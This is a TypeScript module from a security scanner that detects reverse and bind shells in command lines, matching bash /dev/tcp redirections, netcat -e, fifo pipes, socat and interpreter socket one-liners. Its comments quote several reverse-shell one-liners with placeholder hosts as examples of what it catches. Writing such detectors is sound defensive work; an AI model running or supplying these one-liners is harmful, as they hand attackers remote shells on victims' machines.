import { IN_COMMAND, IN_PIPELINE, PIPE, READS_INPUT, SHELL } from "@/scanner/analysis/shell-line-patterns";

// A shell or interpreter whose input is a network connection: the command lines the well-known
// reverse (and bind) shells are made of. Each technique is a set of tests that must all match
// the line; separate tests keep the search linear on long lines, where one pattern with several
// `.*` would backtrack.
const NETCAT = String.raw`\b(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)\b`;
// What a pipeline may read a connection with: netcat, telnet (whose -e is its escape character), openssl's client.
const CONNECTORS = String.raw`${NETCAT}|\btelnet\b|\bopenssl\s+s_client\b`;
const DEV_TCP = /\/dev\/(?:tcp|udp)\/[^\s/]+\/\S/;
const TECHNIQUES: { name: string; all: RegExp[] }[] = [
  // `bash -i >& /dev/tcp/host/port 0>&1`, `sh -i 5<> /dev/tcp/host/port 0<&5`, `sh <&196`,
  // `/bin/sh 0</dev/tcp/host/port 1>&0 2>&0`.
  { name: "a shell reading bash's /dev/tcp", all: [DEV_TCP, new RegExp(String.raw`(?:^|[\s;&|(])${SHELL}\s+-i\b|\b0\s*>&\s*1\b|(?:^|[\s;&|(])${SHELL}\b${IN_COMMAND}\s0?<(?:&\s*\d|\s*\/dev\/(?:tcp|udp)\/)`)] },
  // `exec 5<>/dev/tcp/host/port; cat <&5 | while read line; do $line 2>&5 >&5; done`.
  { name: "the lines read from bash's /dev/tcp run as commands", all: [DEV_TCP, /\bwhile\s+read\b[^;]{0,256};\s*do\s+\$\{?\w/] },
  // `nc -e /bin/sh host port`, `ncat --sh-exec …`, `nc -c bash …`.
  { name: "netcat running a program for the connection", all: [new RegExp(String.raw`(?:${NETCAT})${IN_COMMAND}\s(?:-[a-zA-Z]*e\b|--(?:sh-|lua-)?exec\b|-c\s+['"]?${SHELL}\b)`)] },
  // `nc host port | sh`, and the fifo form `cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f`
  // (the shell reading its input, not a script of its own: `nc -z … || sh ./start.sh` is none).
  { name: "a shell piped to and from netcat", all: [new RegExp(String.raw`(?:${CONNECTORS})${IN_PIPELINE}${PIPE}\s*${SHELL}${READS_INPUT}|(?:^|[\s;&(]|${PIPE})\s*${SHELL}${READS_INPUT}${IN_PIPELINE}${PIPE}\s*(?:${CONNECTORS})`)] },
  // `socat tcp:host:port exec:'bash -li',pty,stderr`.
  { name: "socat joining a connection to a program", all: [/\bsocat\b/, /\b(?:exec|system):/i, /\b(?:tcp|udp|ssl|openssl)[46]?(?:-connect|-listen|-l)?:/i] },
  // The one-liners of the interpreters: a socket made the input of a shell or of what it runs.
  { name: "Python's socket made a shell's input", all: [/\bpython[\d.]*\b/, /\bsocket\b/, /\b(?:os\.dup2|dup2|pty\.spawn|subprocess\.(?:call|run|Popen)|os\.system)\b/] },
  { name: "Perl's socket made a shell's input", all: [/\bperl\b/, /\bSocket\b|IO::Socket/, /\bexec\b|\bsystem\b|open\s*\(\s*STD(?:IN|OUT)/] },
  { name: "Ruby's socket made a shell's input", all: [/\bruby\b/, /\bTCPSocket\b|-rsocket\b/, /\bexec\b|\bspawn\b|IO\.popen|\bsystem\b/] },
  { name: "PHP's socket made a shell's input", all: [/\bphp\b/, /\bfsockopen\b|\bstream_socket_client\b/, /\b(?:exec|shell_exec|system|passthru|popen|proc_open)\b/] },
  { name: "PowerShell running what a TCP client receives", all: [/\b(?:powershell|pwsh)\b/i, /Net\.Sockets\.TCPClient\b/i, /\biex\b|Invoke-Expression/i] },
  { name: "Node's socket piped into a shell", all: [/\bnode\b/, /\brequire\s*\(\s*['"](?:node:)?net['"]\s*\)|\bnet\.Socket\b/, /\bchild_process\b/] },
  { name: "awk's /inet/tcp running what it reads", all: [/\b[gm]?awk\b/, /\/inet\/tcp\//] },
  { name: "Lua's socket made a shell's input", all: [/\blua\b/, /\brequire\s*\(?\s*['"]socket['"]/, /\bos\.execute\b|\bio\.popen\b/] },
];
// Longer lines (built up from constants) are not searched: no one-liner is that long.
const MAX_LINE = 64 * 1024;

/**
 * The reverse-shell technique a command line uses, named for a reviewer (`bash -i >& /dev/tcp/…
 * 0>&1` is "a shell reading bash's /dev/tcp"), or undefined. The line is the command as worked
 * out, with a shell's or interpreter's script (`bash -c …`, `python3 -c …`) joined to it.
 */
export function reverseShellIn(line: string): string | undefined {
  if (line.length > MAX_LINE) return undefined;
  return TECHNIQUES.find(({ all }) => all.every((test) => test.test(line)))?.name;
}
